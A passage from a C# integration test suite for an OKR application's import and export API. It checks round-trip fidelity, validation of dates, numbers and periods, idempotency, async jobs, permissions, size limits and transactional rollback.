        Assert.That(imported["status"]!.GetValue<string>(), Is.EqualTo("succeeded"), imported.ToJsonString());
        var objectives = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/objectives?pageSize=100"), HttpStatusCode.OK);
        var grow = objectives["items"]!.AsArray().Single(o => o!["externalId"]?.GetValue<string>() == "R-1")!;
        Assert.That((grow["progressFrom"]!.GetValue<string>(), grow["alignedShare"]!.GetValue<decimal>(), grow["progress"]!.GetValue<decimal>()),
            Is.EqualTo(("both", 0.25m, 0.4m)), "0.75 × 20% + 0.25 × 100%, as the API computes it for its own objectives");
        var ship = objectives["items"]!.AsArray().Single(o => o!["externalId"]?.GetValue<string>() == "R-2")!;
        Assert.That(ship["progressFrom"]!.GetValue<string>(), Is.EqualTo("key_results"), "left out: the default");

        var json = await ExportAsync(Org.Admin, "json");
        Assert.That(json, Does.Contain("\"progressFrom\": \"both\"").And.Contain("\"alignedShare\": 0.25"));
        var csv = await ExportAsync(Org.Admin, "csv");
        Assert.That(csv, Does.Contain(",objective_progress_from,objective_aligned_share\r\n").And.Contain(",both,0.25\r\n"));
        foreach (var (again, what) in new[] { (await ImportAsync(Org.Admin, Json(JsonNode.Parse(json)!)), "json"), (await ImportAsync(Org.Admin, Csv(csv)), "csv") })
        {
            Assert.That(Count(again, "objectives", "updated"), Is.Zero, $"{what}: {again.ToJsonString()}");
        }

        // The API's rules: a share outside 0..1 or an unknown source is refused by name, and nothing changes.
        var problem = await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
            { "objectives": [{ "externalId": "R-1", "title": "Grow", "period": "Current", "team": "example", "progressFrom": "both", "alignedShare": 1.5 }] }
            """)!), expected: HttpStatusCode.UnprocessableEntity);
        Assert.That(problem["errors"]!.AsArray().Select(e => e!["field"]!.GetValue<string>()), Does.Contain("alignedShare"), problem.ToJsonString());
        var badCsv = await ImportAsync(Org.Admin, Csv("objective_external_id,objective_title,period,team,objective_progress_from\r\nR-1,Grow,Current,example,children\r\n"),
            expected: HttpStatusCode.UnprocessableEntity);
        Assert.That(badCsv["errors"]!.AsArray().Select(e => e!["field"]!.GetValue<string>()), Does.Contain("objective_progress_from"), badCsv.ToJsonString());
        var after = await ExpectJsonAsync(await Org.Admin.GetAsync($"/api/v1/objectives/{Id(grow)}"), HttpStatusCode.OK);
        Assert.That(after["alignedShare"]!.GetValue<decimal>(), Is.EqualTo(0.25m));
    }

    [Test]
    public async Task ACsvFileCreatesThePeriodItNamesWhenItGivesItsDates()
    {
        const string header = "objective_external_id,objective_title,period,period_start,period_end,team,key_result_external_id,key_result_title,direction,baseline,target";
        var csv = header + "\r\n" +
                  "S-1,Standalone,2027 Q1,2027-01-01,2027-03-31,product,S-1-K1,One,increase,0,10\r\n" +
                  "S-1,Standalone,2027 Q1,,,product,S-1-K2,Two,increase,0,10\r\n" +
                  "S-2,Also standalone,2027 Q1,2027-01-01,2027-03-31,product,S-2-K1,Three,increase,0,10\r\n";
        var result = await ImportAsync(Org.Admin, Csv(csv));
        Assert.That(result["status"]!.GetValue<string>(), Is.EqualTo("succeeded"), result.ToJsonString());
        Assert.That(Count(result, "periods", "created"), Is.EqualTo(1));
        Assert.That(Count(result, "objectives", "created"), Is.EqualTo(2));
        var periods = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/periods?pageSize=100"), HttpStatusCode.OK);
        var created = periods["items"]!.AsArray().Single(p => p!["label"]!.GetValue<string>() == "2027 Q1")!;
        Assert.That((created["startDate"]!.GetValue<string>(), created["endDate"]!.GetValue<string>(), created["state"]!.GetValue<string>()),
            Is.EqualTo(("2027-01-01", "2027-03-31", "planning")), "a new period starts in planning");
        var export = await ExportAsync(Org.Admin, "csv");
        Assert.That(export, Does.Contain(",period_start,period_end,"), "the export names the columns");
        Assert.That(export, Does.Contain(",2027-01-01,2027-03-31,"));

        // Disagreeing or half-given dates are refused by row and column, and nothing is written.
        var bad = header + "\r\n" +
                  "B-1,Bad,2027 Q2,2027-04-01,2027-06-30,product,B-1-K1,One,increase,0,10\r\n" +
                  "B-2,Bad,2027 Q2,2027-04-01,2027-07-31,product,B-2-K1,Two,increase,0,10\r\n" +
                  "B-3,Bad,2027 Q3,2027-07-01,  ,product,B-3-K1,Three,increase,0,10\r\n" +
                  "B-4,Bad,2027 Q4,2027-10-01,31.12.2027,product,B-4-K1,Four,increase,0,10\r\n" +
                  "B-5,Bad,2027 Q5,2027-12-31,2027-10-01,product,B-5-K1,Five,increase,0,10\r\n";
        var problem = await ImportAsync(Org.Admin, Csv(bad), expected: HttpStatusCode.UnprocessableEntity);
        var errors = problem["errors"]!.AsArray().Select(e => (e!["row"]!.GetValue<int>(), e["field"]!.GetValue<string>())).ToList();
        Assert.That(errors, Is.SupersetOf(new[] { (3, "period_end"), (4, "period_end"), (5, "period_end") }), problem.ToJsonString());
        Assert.That(errors, Does.Not.Contain((3, "period_start")), "only the date that differs is named");
        Assert.That(errors.Any(e => e.Item1 == 6), Is.True, $"an end before the start is refused: {problem.ToJsonString()}");
        var after = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/periods?pageSize=100"), HttpStatusCode.OK);
        Assert.That(after["items"]!.AsArray().Select(p => p!["label"]!.GetValue<string>()), Has.None.StartsWith("2027 Q2").And.None.EqualTo("2027 Q3"));
    }

    [Test]
    public async Task ExportThenImportIntoAnEmptyOrganisationThenExportGivesIdenticalOutput()
    {
        await MakeHistoryInTheAppAsync();
        var json = await ExportAsync(Org.Admin, "json");
        var csv = await ExportAsync(Org.Admin, "csv", Org.PeriodId);

        // A brand-new organisation: only its first admin.
        await GlobalSetup.ResetAsync();
        await AddUserAsync("admin@example.com", OrgRole.Admin);
        var admin = await SignInAsync("admin@example.com");
        var imported = await ImportAsync(admin, new StringContent(json, Encoding.UTF8, "application/json"));
        Assert.That(Count(imported, "teams", "created"), Is.EqualTo(3));
        Assert.That(Count(imported, "objectives", "created"), Is.EqualTo(5));

        Assert.That(await ExportAsync(admin, "json"), Is.EqualTo(json));
        var periodId = Id((await ExpectJsonAsync(await admin.GetAsync("/api/v1/periods"), HttpStatusCode.OK))["items"]![0]!);
        Assert.That(await ExportAsync(admin, "csv", periodId), Is.EqualTo(csv));

        // And CSV alone: an organisation with the teams, people and periods, then the CSV.
        await GlobalSetup.ResetAsync();
        await AddUserAsync("admin@example.com", OrgRole.Admin);
        admin = await SignInAsync("admin@example.com");
        var skeleton = JsonNode.Parse(json)!.AsObject();
        foreach (var part in new[] { "objectives", "keyResults", "checkIns" }) skeleton.Remove(part);
        await ImportAsync(admin, Json(skeleton));
        await ImportAsync(admin, new StringContent(csv, Encoding.UTF8, "text/csv"));
        periodId = Id((await ExpectJsonAsync(await admin.GetAsync("/api/v1/periods"), HttpStatusCode.OK))["items"]![0]!);
        Assert.That(await ExportAsync(admin, "csv", periodId), Is.EqualTo(csv));
    }

    [Test]
    public async Task ImportedPeopleHaveNoPasswordAndCannotSignInWithAnEmptyOne()
    {
        var result = await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
            { "users": [{ "email": "Imported@Example.com", "displayName": "Imported", "role": "viewer", "manager": "lead@example.com",
                          "teams": [{ "team": "sales", "role": "lead" }] }] }
            """)!));
        Assert.That(Count(result, "users", "created"), Is.EqualTo(1));
        Assert.That(Count(result, "memberships", "created"), Is.EqualTo(1));
        var response = await Anonymous().PostAsJsonAsync("/api/v1/auth/token", new { email = "imported@example.com", password = "" });
        Assert.That(response.StatusCode, Is.AnyOf(HttpStatusCode.BadRequest, HttpStatusCode.Unauthorized));
        var members = await ExpectJsonAsync(await Org.Admin.GetAsync($"/api/v1/teams/{Org.SalesId}/members"), HttpStatusCode.OK);
        Assert.That(members.ToJsonString(), Does.Contain("imported@example.com").Or.Contain("Imported"));
    }

    [Test]
    public async Task IdempotencyKeyReturnsTheFirstResultWithoutRunningAgain()
    {
        HttpRequestMessage Request(string csv, string key)
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/imports") { Content = Csv(csv) };
            request.Headers.Add("Idempotency-Key", key);
            return request;
        }

        var first = await ExpectJsonAsync(await Org.Admin.SendAsync(Request(SampleCsv(), "sync-2026-01")), HttpStatusCode.OK);
        var auditAfterFirst = await RowsAsync("audit_log");
        // Someone changes a target in the web app; a replay must not put the file's value back.
        var revenue = await KeyResultAsync(Org.Admin, "C-1-K1");
        var etag = (await Org.Admin.GetAsync($"/api/v1/key-results/{Id(revenue)}")).Headers.ETag!.Tag;
        await ExpectAsync(await PatchAsync(Org.Admin, $"/api/v1/key-results/{Id(revenue)}", new { target = 150 }, etag), HttpStatusCode.OK);

        var replay = await Org.Admin.SendAsync(Request(SampleCsv(), "sync-2026-01"));
        var replayed = await ExpectJsonAsync(replay, HttpStatusCode.OK);
        Assert.Multiple(() =>
        {
            Assert.That(replay.Headers.GetValues("Idempotent-Replayed").Single(), Is.EqualTo("true"));
            Assert.That(replayed["id"]!.GetValue<string>(), Is.EqualTo(first["id"]!.GetValue<string>()));
            Assert.That(Count(replayed, "objectives", "created"), Is.EqualTo(3), "the first result, not a new run");
        });
        Assert.That((await KeyResultAsync(Org.Admin, "C-1-K1"))["target"]!.GetValue<decimal>(), Is.EqualTo(150));
        Assert.That(await RowsAsync("audit_log"), Is.EqualTo(auditAfterFirst + 1), "only the web edit");

        await ExpectProblemAsync(await Org.Admin.SendAsync(Request(SampleCsv(target: "99"), "sync-2026-01")), HttpStatusCode.UnprocessableEntity);
        // A failed import does not use up its key.
        var broken = Rows("Z-1,,Current,product,,,,,,,,,,,,");
        await ExpectProblemAsync(await Org.Admin.SendAsync(Request(broken, "sync-2026-02")), HttpStatusCode.UnprocessableEntity);
        await ExpectAsync(await Org.Admin.SendAsync(Request(SampleCsv(), "sync-2026-02")), HttpStatusCode.OK);
        await ExpectProblemAsync(await Org.Admin.SendAsync(Request(SampleCsv(), new string('k', 300))), HttpStatusCode.BadRequest, "Idempotency-Key");
    }

    [Test]
    public async Task AsynchronousImportAnswers202AndCanBePolledToTheEnd()
    {
        var response = await Org.Admin.PostAsync("/api/v1/imports?async=true", Csv(SampleCsv()));
        var job = await ExpectJsonAsync(response, HttpStatusCode.Accepted);
        Assert.That(response.Headers.Location!.ToString(), Is.EqualTo($"/api/v1/imports/{job["id"]}"));
        Assert.That(job["status"]!.GetValue<string>(), Is.EqualTo("queued"));

        JsonNode polled = job;
        for (var i = 0; i < 200 && polled["status"]!.GetValue<string>() is "queued" or "running"; i++)
        {
            await Task.Delay(50);
            polled = await ExpectJsonAsync(await Org.Admin.GetAsync(response.Headers.Location), HttpStatusCode.OK);
        }

        Assert.That(polled["status"]!.GetValue<string>(), Is.EqualTo("succeeded"), polled.ToJsonString());
        Assert.That(Count(polled, "keyResults", "created"), Is.EqualTo(4));
        Assert.That(polled["recordsRead"]!.GetValue<long>(), Is.EqualTo(4));
        Assert.That(await RowsAsync("key_results"), Is.EqualTo(4));
        var list = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/imports"), HttpStatusCode.OK);
        Assert.That(list["items"]![0]!["id"]!.GetValue<string>(), Is.EqualTo(job["id"]!.GetValue<string>()));
        await ExpectProblemAsync(await Org.Member.GetAsync(response.Headers.Location), HttpStatusCode.NotFound);
    }

    [Test]
    public async Task OnlyAdminsAndImportClientsImportAndExport()
    {
        await ImportAsync(Org.Lead, Csv(SampleCsv()), expected: HttpStatusCode.Forbidden);
        await ExpectProblemAsync(await Org.Lead.GetAsync("/api/v1/exports?format=json"), HttpStatusCode.Forbidden);
        await ExpectProblemAsync(await Anonymous().PostAsync("/api/v1/imports", Csv(SampleCsv())), HttpStatusCode.Unauthorized);

        foreach (var scope in new[] { "read", "write" })
        {
            await ImportAsync(await ClientAsync(scope), Csv(SampleCsv()), expected: HttpStatusCode.Forbidden);
        }

        var importer = await ClientAsync("import");
        var clientId = importer.DefaultRequestHeaders.GetValues("X-Test-Client").Single();
        var result = await ImportAsync(importer, Csv(SampleCsv()));
        Assert.That(Count(result, "checkIns", "created"), Is.EqualTo(2));
        var revenue = await KeyResultAsync(Org.Admin, "C-1-K1");
        var checkIn = (await ExpectJsonAsync(await Org.Admin.GetAsync($"/api/v1/key-results/{Id(revenue)}/check-ins"), HttpStatusCode.OK))["items"]![0]!;
        Assert.Multiple(() =>
        {
            Assert.That(checkIn["source"]!.GetValue<string>(), Is.EqualTo("import"));
            Assert.That(checkIn["apiClientId"]!.GetValue<string>(), Is.EqualTo(clientId));
        });
        var audit = await ExpectJsonAsync(await Org.Admin.GetAsync($"/api/v1/audit?entityId={Id(revenue)}"), HttpStatusCode.OK);
        Assert.That(audit["items"]![0]!["actorClientId"]!.GetValue<string>(), Is.EqualTo(clientId));
        Assert.That(await ExportAsync(importer, "csv"), Does.Contain("C-1-K1"));

        // An integration may add people, but not make anyone an admin, nor demote or deactivate one.
        foreach (var change in new[]
                 {
                     """{ "users": [{ "email": "lead@example.com", "displayName": "lead", "role": "admin" }] }""",
                     """{ "users": [{ "email": "admin@example.com", "displayName": "Someone", "role": "member" }] }""",
                     """{ "users": [{ "email": "admin@example.com", "displayName": "Someone", "active": false }] }""",
                 })
        {
            var refused = await ImportAsync(importer, Json(JsonNode.Parse(change)!), expected: HttpStatusCode.UnprocessableEntity);
            Assert.That(refused["errors"]![0]!["field"]!.GetValue<string>(), Is.EqualTo("role"), change);
        }
    }

    private async Task<HttpClient> ClientAsync(string scope)
    {
        var created = await ExpectJsonAsync(await Org.Admin.PostAsJsonAsync("/api/v1/api-clients", new { name = $"{scope} sync", scope }), HttpStatusCode.Created);
        var id = created["client"]!["id"]!.GetValue<string>();
        var token = await ExpectJsonAsync(await Anonymous().PostAsJsonAsync("/api/v1/auth/token",
            new { grantType = "client_credentials", clientId = id, clientSecret = created["clientSecret"]!.GetValue<string>() }), HttpStatusCode.OK);
        var client = Anonymous();
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token["accessToken"]!.GetValue<string>());
        client.DefaultRequestHeaders.Add("X-Test-Client", id);
        return client;
    }

    [Test]
    public async Task ABodyOverTheLimitIs413AndChangesNothing()
    {
        using var small = Factory.WithWebHostBuilder(b => b.UseSetting("Okr:Imports:MaxBytes", "2048"));
        var client = small.CreateClient();
        client.DefaultRequestHeaders.Authorization = Org.Admin.DefaultRequestHeaders.Authorization;
        var rows = Enumerable.Range(1, 80).Select(i => $"S-{i},Objective {i},Current,product,,,,,,,,,,,,").ToArray();

        var declared = await ImportAsync(client, Csv(Rows(rows)), expected: HttpStatusCode.RequestEntityTooLarge);
        Assert.That(declared["detail"]!.GetValue<string>(), Does.Contain("2,048 bytes"));
        // Without a Content-Length (chunked), the limit is enforced while reading.
        var unsized = new UnsizedContent(Encoding.UTF8.GetBytes(Rows(rows)));
        unsized.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        await ExpectProblemAsync(await client.PostAsync("/api/v1/imports", unsized), HttpStatusCode.RequestEntityTooLarge);
        Assert.That(await RowsAsync("objectives"), Is.Zero);
        await ImportAsync(client, Csv(Rows(rows[..5])));
    }

    [Test]
    public async Task ADatabaseFailureMidwayLeavesNothingHalfWritten()
    {
        // A trigger makes the last statement of the merge fail, after objectives and key results were already written in the transaction.
        await GlobalSetup.WithDbAsync(db => db.Database.ExecuteSqlRawAsync("""
            CREATE FUNCTION fail_import() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'simulated failure'; END $$;
            CREATE TRIGGER fail_import BEFORE INSERT ON check_ins FOR EACH ROW EXECUTE FUNCTION fail_import();
            """));
        try
        {
            await ImportAsync(Org.Admin, Csv(SampleCsv()), expected: HttpStatusCode.InternalServerError);
            Assert.That(await RowsAsync("objectives"), Is.Zero);
            Assert.That(await RowsAsync("key_results"), Is.Zero);
            Assert.That(await RowsAsync("audit_log WHERE import_id IS NOT NULL"), Is.Zero);
            var jobs = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/imports"), HttpStatusCode.OK);
            Assert.That(jobs["items"]![0]!["status"]!.GetValue<string>(), Is.EqualTo("failed"));
        }
        finally
        {
            await GlobalSetup.WithDbAsync(db => db.Database.ExecuteSqlRawAsync("DROP TRIGGER fail_import ON check_ins; DROP FUNCTION fail_import();"));
        }
    }

    [TestCase("07.03.2026")]
    [TestCase("03/07/2026")]
    [TestCase("2026-07-31T09:00:00")]
    [TestCase("31 July 2026")]
    [TestCase("2026-7-3")]
    public async Task ADateInAnyFormButTheDocumentedOnesIsRefusedNotGuessed(string measuredAt)
    {
        var problem = await ImportAsync(Org.Admin, Csv(Rows($"D-1,Dates,Current,example,,,D-1-K,Result,metric,increase,0,10,number,3,5,{measuredAt}")),
            expected: HttpStatusCode.UnprocessableEntity);
        var error = problem["errors"]![0]!;
        Assert.That((error["row"]!.GetValue<int>(), error["field"]!.GetValue<string>()), Is.EqualTo((2, "measured_at")));
        Assert.That(error["message"]!.GetValue<string>(), Does.Contain("2026-07-31T09:00:00Z"));

        var json = new JsonObject
        {
            ["checkIns"] = new JsonArray(new JsonObject { ["keyResult"] = "D-1-K", ["value"] = 3, ["measuredAt"] = measuredAt }),
        };
        var refused = await ImportAsync(Org.Admin, Json(json), expected: HttpStatusCode.UnprocessableEntity);
        Assert.That(refused["errors"]![0]!["field"]!.GetValue<string>(), Is.EqualTo("measuredAt"), refused.ToJsonString());
        Assert.That(refused["errors"]![0]!["message"]!.GetValue<string>(), Does.Contain("with its offset"));
    }

    [Test]
    public async Task TheDocumentedDateFormsAreReadExactly()
    {
        await ImportAsync(Org.Admin, Csv(Rows(
            "D-1,Dates,Current,example,,,D-1-K,Result,metric,increase,0,10,number,3,5,2026-01-03",
            "D-1,Dates,Current,example,,,D-2-K,Result,metric,increase,0,10,number,3,5,2026-01-03T11:00:00+02:00",
            "D-1,Dates,Current,example,,,D-3-K,Result,metric,increase,0,10,number,3,5,2026-01-03T09:00:00.250Z")));
        Assert.That((await KeyResultAsync(Org.Admin, "D-1-K"))["lastCheckInAt"]!.GetValue<DateTimeOffset>(), Is.EqualTo(new DateTimeOffset(2026, 1, 3, 0, 0, 0, TimeSpan.Zero)));
        Assert.That((await KeyResultAsync(Org.Admin, "D-2-K"))["lastCheckInAt"]!.GetValue<DateTimeOffset>(), Is.EqualTo(new DateTimeOffset(2026, 1, 3, 9, 0, 0, TimeSpan.Zero)));
        Assert.That((await KeyResultAsync(Org.Admin, "D-3-K"))["lastCheckInAt"]!.GetValue<DateTimeOffset>(), Is.EqualTo(new DateTimeOffset(2026, 1, 3, 9, 0, 0, 250, TimeSpan.Zero)));
    }

    [TestCase("1,5")]
    [TestCase("1.000,5")]
    [TestCase("1 000")]
    public async Task ANumberWrittenTheLocalWayIsRefused(string baseline)
    {
        var problem = await ImportAsync(Org.Admin, Csv(Rows($"N-1,Numbers,Current,example,,,N-1-K,Result,metric,increase,\"{baseline}\",10,number,,,")),
            expected: HttpStatusCode.UnprocessableEntity);
        Assert.That(problem["errors"]![0]!["field"]!.GetValue<string>(), Is.EqualTo("baseline"));
    }
}

/// <summary>A body sent without a Content-Length, as a streaming client sends it.</summary>
internal sealed class UnsizedContent(byte[] bytes) : HttpContent
{
    protected override Task SerializeToStreamAsync(Stream stream, System.Net.TransportContext? context) => stream.WriteAsync(bytes).AsTask();

    protected override bool TryComputeLength(out long length)
    {
        length = 0;
        return false;
    }
}
